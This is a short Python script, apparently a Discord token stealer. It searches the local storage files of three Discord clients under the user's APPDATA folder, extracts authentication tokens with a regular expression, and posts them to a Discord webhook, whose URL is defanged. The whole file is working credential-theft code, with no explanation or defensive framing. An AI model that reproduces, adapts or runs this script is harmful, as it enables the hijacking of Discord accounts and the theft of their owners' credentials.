import os
import re

import requests

WEBHOOK = "https://discord.com/api/webhooks/0000/DEFANGED"
ROAMING = os.getenv("APPDATA", "")
tokens = []
for app in ("discord", "discordcanary", "discordptb"):
    path = os.path.join(ROAMING, app, "Local Storage", "leveldb")
    if not os.path.isdir(path):
        continue
    for name in os.listdir(path):
        if name.endswith((".log", ".ldb")):
            with open(os.path.join(path, name), errors="ignore") as fh:
                tokens += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", fh.read())
requests.post(WEBHOOK, json={"content": "\n".join(tokens)})
